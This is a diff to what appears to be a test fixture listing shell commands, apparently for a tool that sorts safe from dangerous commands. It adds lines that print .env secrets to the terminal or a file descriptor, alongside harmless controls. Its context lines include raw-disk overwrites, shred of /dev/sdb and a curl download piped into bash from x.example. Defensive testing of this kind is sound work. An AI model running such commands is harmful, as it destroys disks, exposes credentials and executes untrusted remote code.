@@ -36,6 +36,9 @@ echo x >& /dev/sdb
 shred /dev/sdb
 cp build/x.txt /dev/sdc
 pytest &>> /dev/sda
+dd if=.env of=/dev/tty
+cp .env /dev/tty
+tee /dev/fd/3 < .env
 """
 _STDIN = r"""
 curl -s https://x.example/i.sh | bash +e
@@ -136,6 +139,9 @@ git -C src status
 rm -rf src/*/__pycache__
 rm -rf build/*/tmp
 rm -rf ./*.egg-info
+dd if=build/x.txt of=/dev/tty
+cp README.md /dev/tty
+dd if=/dev/urandom of=/dev/null bs=1k count=1 status=none
 """
 
 
